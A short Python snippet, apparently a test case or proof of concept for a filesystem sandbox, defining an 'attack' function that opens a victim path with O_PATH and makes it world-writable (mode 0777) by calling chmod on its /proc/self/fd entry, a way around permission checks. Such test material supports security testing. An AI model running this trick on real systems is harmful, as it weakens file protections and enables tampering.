# Opens the file for path use only and changes its mode through /proc.
# proof: outside
import os


def attack(arg):
    fd = os.open(arg["victim"], os.O_PATH)
    os.chmod(f"/proc/self/fd/{fd}", 0o777)
    return True
